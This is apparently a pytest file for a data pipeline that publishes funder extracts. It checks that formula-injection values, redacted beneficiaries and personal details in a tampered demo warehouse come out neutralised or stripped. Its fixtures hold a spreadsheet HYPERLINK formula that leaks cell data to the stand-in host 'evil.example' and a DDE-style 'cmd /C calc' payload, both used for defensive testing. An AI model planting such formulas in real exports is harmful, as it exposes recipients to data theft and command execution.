"""Funder extracts built from a copy of the demo warehouse that has been tampered with: formula
injection in names a council or funder published, redacted and individual beneficiaries,
personal details in free text, a stricter publication policy, and an extract that fails to
validate (the earlier one stays in place)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from dashboards.extracts import giving360
from dashboards.extracts.build import ExtractFailed, build_in_place, read_selection
from dashboards.extracts.method import load_settings
from dashboards.extracts.publish import publish_standard, read_standard
from dashboards.extracts.safety import inert, neutralise
from dashboards.extracts.spec import Spec
from dashboards.publication import publication_policy
from dashboards.suppression import SYMBOL, Policy
from warehouse.spend_marts import build_spend_summaries

OLDHAM = "oldham-social-prescribing"
LEAD = "GB-CHC-9914307"  # Action Together
LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for your report")'
AT = '@SUM(1+1)*cmd|" /C calc"!A0'
LINE = "source_file || '#' || source_row = ?"  # one published payment line
BUILT_AT = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)


@pytest.fixture
def tampered(demo_home: Path, tmp_path: Path) -> Path:
    """A copy of the demo's data folder whose warehouse holds hostile and personal values."""
    home = tmp_path / "home"
    home.mkdir()
    shutil.copy(demo_home / "warehouse.duckdb", home / "warehouse.duckdb")
    con = duckdb.connect(str(home / "warehouse.duckdb"))
    con.execute("update marts.social_value set partner_name = ? where partner_org_id = ?",
                [LINK, LEAD])
    con.execute("update marts.social_value set notes = 'Jane Doe of 12 Acacia Avenue' "
                "where partnership_id = ?", [OLDHAM])
    rows = [f"{r[0]}#{r[1]}" for r in con.execute(
        "select source_file, source_row from marts.spend_classified where partnership_id = ? "
        "order by payment_date, source_file, source_row limit 4", [OLDHAM]).fetchall()]
    con.execute("update marts.spend_classified set beneficiary = ?, department = ?, "
                f"expense_type = '+1+1', transaction_ref = '-2+3' where {LINE}",
                [LINK, AT, rows[0]])
    con.execute(f"update marts.spend_classified set amount = -250 where {LINE}", [rows[1]])
    con.execute("update marts.spend_classified set is_redacted = true, "
                "beneficiary = 'REDACTED PERSONAL DATA', supplier_class = "
                f"'individual_or_redacted' where {LINE}", [rows[2]])
    con.execute("update marts.spend_classified set beneficiary = 'Jane Doe', "
                f"supplier_class = 'individual_or_redacted' where {LINE}", [rows[3]])
    grant = json.loads(con.execute("select grant_json from staging.grants where grant_id = "
                                   "'360G-sample-ICF-0001'").fetchall()[0][0])
    grant["recipientOrganization"][0] |= {"contactName": "John Smith",
                                          "email": "john.smith@example.org"}
    con.execute("update staging.grants set title = ?, grant_json = ? where grant_id = "
                "'360G-sample-ICF-0001'", ["\t=1+1", json.dumps(grant)])
    build_spend_summaries(con)  # the payments and grants the extracts read, from the above
    con.close()
    return home


def build(home: Path, spec: Spec, out: Path, policy: Policy | None = None):
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        selection = read_selection(con, spec)
    return build_in_place(selection, out, policy or publication_policy(home / "config"),
                          load_settings(home / "config"), BUILT_AT)


def csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def every_text(folder: Path) -> str:
    """Everything the extract says, every format opened as its reader would."""
    parts = []
    for path in folder.iterdir():
        if path.suffix in (".csv", ".json", ".md", ".yaml"):
            parts.append(path.read_text(encoding="utf-8"))
        elif path.suffix == ".parquet":
            parts.append(json.dumps(pq.read_table(path).to_pylist(), default=str))
        elif path.suffix == ".xlsx":
            book = load_workbook(path, read_only=True)
            parts += [str(v) for s in book.worksheets for r in s.iter_rows(values_only=True)
                      for v in r]
    return "\n".join(parts)


def test_text_that_would_run_as_a_formula_comes_out_inert(tampered, tmp_path):
    built = build(tampered, Spec(partnerships=(OLDHAM,)), tmp_path / "out")
    here = built.folder
    book = load_workbook(here / f"{OLDHAM}.xlsx")
    assert not [(s.title, c.coordinate) for s in book.worksheets for row in s.iter_rows()
                for c in row if c.data_type == "f"]
    sheet = book["council_payments"]
    # Headings are plain words; the workbook's data dictionary gives each one's code name.
    names = {(t, h): c for t, c, h, *_ in book["data_dictionary"].iter_rows(min_row=2,
                                                                           values_only=True)}
    header = [names[("council_payments", c.value)] for c in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    (hostile,) = [r for r in cells if r["beneficiary"].value == "'" + LINK]
    assert hostile["beneficiary"].data_type == "s"
    assert hostile["department"].value == "'" + AT
    assert hostile["expense_type"].value == "'+1+1"
    assert hostile["transaction_ref"].value == "'-2+3"
    (credit,) = [r for r in cells if r["amount_gbp"].value == -250]
    assert credit["amount_gbp"].data_type == "n"  # a negative number stays a number

    names = {c.value for c in book["social_value"]["C"][1:]}
    assert "'" + LINK in names and LINK not in names
    payments = csv_rows(here / "council_payments.csv")
    assert "'" + LINK in {p["beneficiary"] for p in payments}
    assert "-250.0" in {p["amount_gbp"] for p in payments}
    assert {r["title"] for r in csv_rows(here / "grants.csv")} >= {"'\t=1+1"}
    assert all(not (v or "").startswith(("=", "+", "-", "@", "\t", "\r"))
               for r in payments for v in r.values() if not _number(v))
    # Parquet is not a spreadsheet: it keeps the text as published.
    raw = pq.read_table(here / "council_payments.parquet").to_pylist()
    assert LINK in {r["beneficiary"] for r in raw}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_redacted_and_individual_beneficiaries_stay_redacted_and_no_person_is_named(tampered,
                                                                                   tmp_path):
    built = build(tampered, Spec(partnerships=(OLDHAM,)), tmp_path / "out")
    payments = csv_rows(built.folder / "council_payments.csv")
    redacted = [p for p in payments if p["beneficiary"] == "[redacted]"]
    person = [p for p in payments if p["beneficiary"] == "individual (not named)"]
    assert len(redacted) == 1 and len(person) == 1
    assert all(float(p["amount_gbp"]) > 0 for p in redacted + person)
    assert redacted[0]["is_redacted"] == "true" and person[0]["is_redacted"] == "false"
    said = every_text(built.folder)
    for personal in ("Jane Doe", "Acacia", "John Smith", "john.smith@example.org",
                     "REDACTED PERSONAL DATA"):
        assert personal not in said, personal
    grants = json.loads((built.folder / "grants-360giving.json").read_text())
    assert giving360.problems(grants) == []


def test_a_grant_to_an_individual_is_not_republished():
    to_person = {"id": "360G-x-1", "title": "t", "description": "d", "currency": "GBP",
                 "amountAwarded": 500, "awardDate": "2024-05-01",
                 "recipientIndividual": {"id": "360G-x-IND-1", "name": "Individual Recipient"},
                 "fundingOrganization": [{"id": "GB-CHC-1", "name": "F",
                                          "telephone": "0161 000 0000"}]}
    assert giving360.without_people(to_person) is None
    to_org = {**to_person, "recipientIndividual": None,
              "recipientOrganization": [{"id": "GB-CHC-2", "name": "R", "contactName": "A B"}]}
    kept = giving360.without_people(to_org)
    assert kept["recipientOrganization"] == [{"id": "GB-CHC-2", "name": "R"}]
    assert kept["fundingOrganization"] == [{"id": "GB-CHC-1", "name": "F"}]


def test_inert_prefixes_only_what_a_spreadsheet_would_run():
    assert [inert(t) for t in ("=1+1", "+44 161", "-x", "@a", "\tb", "\rc", "a=b", "1", "")] == [
        "'=1+1", "'+44 161", "'-x", "'@a", "'\tb", "'\rc", "a=b", "1", ""]
    import pandas as pd

    frame = pd.DataFrame({"t": pd.Series(["=x", None, "ok"], dtype="string"),
                          "n": [-1.0, 2.0, 3.0]})
    out = neutralise(frame, ["t"])
    assert out["t"].tolist()[0] == "'=x" and pd.isna(out["t"][1]) and out["n"].tolist()[0] == -1


def test_a_stricter_policy_in_config_hides_more_and_rounds(demo_home, tmp_path):
    home = tmp_path / "home"
    (home / "config").mkdir(parents=True)
    shutil.copy(demo_home / "warehouse.duckdb", home / "warehouse.duckdb")
    (home / "config" / "publication.yaml").write_text(
        "suppression: {threshold: 10, sensitive_threshold: 20, round_to: 5}\n")
    default = build(home, Spec(partnerships=(OLDHAM,)), tmp_path / "default", Policy())
    strict = build(home, Spec(partnerships=(OLDHAM,)), tmp_path / "strict")
    assert sum(strict.suppressed.values()) > sum(default.suppressed.values())
    shown = [int(r["beneficiaries"]) for r in csv_rows(strict.folder / "social_value.csv")
             if r["beneficiaries"] not in (SYMBOL, "")]
    assert shown and all(n == 0 or (n >= 10 and n % 5 == 0) for n in shown)
    assert "nearest 5" in (strict.folder / "method.md").read_text()


def test_an_extract_that_does_not_validate_leaves_the_earlier_one_in_place(tampered, tmp_path):
    out = tmp_path / "out"
    first = build(tampered, Spec(partnerships=(OLDHAM,)), out)
    before = {p.name: p.read_bytes() for p in first.folder.iterdir()}
    with duckdb.connect(str(tampered / "warehouse.duckdb")) as con:
        # Two accounts for one partnership and year: the package's primary key is broken.
        con.execute("insert into marts.partnership_accounts select * from "
                    "marts.partnership_accounts where partnership_id = ?", [OLDHAM])
    with pytest.raises(ExtractFailed, match="does not validate"):
        build(tampered, Spec(partnerships=(OLDHAM,)), out)
    assert {p.name: p.read_bytes() for p in (out / OLDHAM).iterdir()} == before
    assert sorted(p.name for p in out.iterdir()) == [OLDHAM, f"{OLDHAM}.zip"]


def test_republishing_replaces_each_extract_whole_and_drops_gone_partnerships(demo_home,
                                                                             tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    shutil.copy(demo_home / "warehouse.duckdb", home / "warehouse.duckdb")
    extracts = home / "site" / "extracts"
    with duckdb.connect(str(home / "warehouse.duckdb"), read_only=True) as con:
        selections = read_standard(con)
    settings = load_settings(home / "config")
    publish_standard(selections, extracts, Policy(), settings, BUILT_AT)
    (extracts / OLDHAM / "stray.txt").write_text("from an older build")
    publish_standard(selections, extracts, Policy(), settings, BUILT_AT)
    assert not (extracts / OLDHAM / "stray.txt").exists()
    assert (extracts / OLDHAM / "accounts.csv").exists()

    shutil.copytree(extracts / OLDHAM, extracts / "gone-partnership")
    (extracts / "gone-partnership.zip").write_bytes(b"")
    (extracts / "notes-of-mine").mkdir()  # not an extract: left alone
    kept = [s for s in selections if s.spec.folder != OLDHAM]
    publish_standard(kept, extracts, Policy(), settings, BUILT_AT)
    assert not (extracts / "gone-partnership").exists()
    assert not (extracts / "gone-partnership.zip").exists()
    assert not (extracts / OLDHAM).exists() and (extracts / "notes-of-mine").exists()
    index = json.loads((extracts / "index.json").read_text())
    assert [e["partnership_id"] for e in index["extracts"]] == [s.spec.folder for s in kept]
    assert not [p for p in extracts.iterdir() if p.name.startswith(".")]
